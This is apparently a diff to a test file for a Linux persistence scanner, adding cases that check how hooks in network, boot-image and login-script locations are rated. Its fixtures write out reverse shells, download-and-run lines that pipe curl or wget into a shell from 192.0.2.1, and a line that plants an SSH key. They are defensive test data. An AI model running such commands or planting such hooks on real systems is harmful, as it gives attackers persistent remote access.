@@ -29,6 +29,8 @@ describe('hooks of the network', () => {
 		['NetworkManager', { '/etc/NetworkManager/dispatcher.d/pre-up.d/x': script('bash -i >& /dev/tcp/192.0.2.1/4 0>&1') }, ['critical /etc/NetworkManager/dispatcher.d/pre-up.d/x']],
 		['interfaces', { '/etc/network/interfaces.d/lo': 'iface lo inet loopback\n  up /dev/shm/x \\\n -d\n', '/dev/shm/x': { mode: 0o755 } }, ['high /etc/network/interfaces.d/lo']],
 		['a DHCP hook', { '/etc/dhcp/dhclient-exit-hooks.d/x': 'wget -qO- http://192.0.2.1/a | bash\n' }, ['high /etc/dhcp/dhclient-exit-hooks.d/x']],
+		...['/etc/wpa_supplicant/action_wpa.sh', '/etc/resolvconf/update.d/zz', '/etc/resolvconf/update-libc.d/zz', '/etc/letsencrypt/renewal-hooks/pre/x.sh', '/etc/letsencrypt/renewal-hooks/post/x', '/etc/letsencrypt/renewal-hooks/deploy/x', '/etc/munin/plugins/cpu2', '/etc/ppp/ip-up.d/0dns2'].map((path): [string, Machine, string[]] => [path, { [path]: script('curl -s http://192.0.2.1/k | sh') }, [`high ${path}`]]),
+		['the hook of an administrator, who reloads his web server', { '/etc/letsencrypt/renewal-hooks/deploy/nginx': script('systemctl reload nginx') }, ['info /etc/letsencrypt/renewal-hooks/deploy/nginx']],
 		['WireGuard', { '/etc/wireguard/wg0.conf': '[Interface]\nPostUp = nc -e /bin/sh 192.0.2.1 4\n' }, ['critical /etc/wireguard/wg0.conf']],
 		['an ifcfg file is shell text', { '/etc/sysconfig/network-scripts/ifcfg-eth0': 'NAME=eth0 /tmp/x\n', '/tmp/x': { mode: 0o755 } }, ['high /etc/sysconfig/network-scripts/ifcfg-eth0']],
 	])('%s', (_name, machine, expected) => {
@@ -40,6 +42,8 @@ describe('hooks of the boot image', () => {
 	test.each<[string, Machine, string[]]>([
 		["an administrator's own", { '/etc/initramfs-tools/hooks/keys': script('cp /etc/keys/x "$DESTDIR"'), '/etc/kernel/postinst.d/zz-copy': script('cp /boot/vmlinuz /srv/tftp/') }, ['info /etc/initramfs-tools/hooks/keys', 'info /etc/kernel/postinst.d/zz-copy']],
 		['one that plants', { '/etc/initramfs-tools/scripts/local-bottom/x': script('echo x >> /root/.ssh/authorized_keys') }, ['high /etc/initramfs-tools/scripts/local-bottom/x']],
+		['a setting that is sourced as the image is made', { '/etc/cryptsetup-initramfs/conf-hook': 'curl -s http://192.0.2.1/k | sh\n' }, ['high /etc/cryptsetup-initramfs/conf-hook']],
+		['a setting of the boot loader that is sourced', { '/etc/default/grub.d/x.cfg': '/dev/shm/x &\n', '/dev/shm/x': { mode: 0o755 } }, ['high /etc/default/grub.d/x.cfg']],
 		['a module of dracut that no package brought', { '/usr/lib/dracut/modules.d/99x/module-setup.sh': script('true') }, ['high /usr/lib/dracut/modules.d/99x/module-setup.sh']],
 	])('%s', (_name, machine, expected) => {
 		expect(ask(bootImageHooks, machine)).toEqual(expected);
@@ -50,6 +54,9 @@ describe('scripts of logins', () => {
 	test.each<[string, Machine, string[]]>([
 		["an administrator's own", { '/etc/update-motd.d/99-welcome': script('cat /etc/motd.local'), '/home/ann/.xsessionrc': 'export LANG=C\n' }, ['info /etc/update-motd.d/99-welcome']],
 		['the message of the day', { '/etc/update-motd.d/10-uname': script('uname -a; (setsid /usr/lib/x/.y &)'), '/usr/lib/x/.y': { mode: 0o755 } }, ['high /etc/update-motd.d/10-uname']],
+		['run for each new account', { '/usr/local/sbin/adduser.local': script('curl -s http://192.0.2.1/k | sh') }, ['high /usr/local/sbin/adduser.local']],
+		['other programs of that folder are none of its scripts', { '/usr/local/sbin/backup': script('curl -s http://192.0.2.1/k | sh') }, []],
+		...['.config/i3/config', '.config/sway/config', '.config/openbox/autostart', '.config/plasma-workspace/env/x.sh'].map((name): [string, Machine, string[]] => [name, { [`/home/ann/${name}`]: 'curl -s http://192.0.2.1/k | sh\n' }, [`high /home/ann/${name}`]]),
 		["somebody's session", { '/home/ann/.xprofile': 'python3 -c "import socket,os,pty;s=socket.socket();s.connect((\'192.0.2.1\',1));os.dup2(s.fileno(),0);pty.spawn(\'sh\')"\n' }, ['critical /home/ann/.xprofile']],
 	])('%s', (_name, machine, expected) => {
 		expect(ask(loginScripts, machine)).toEqual(expected);
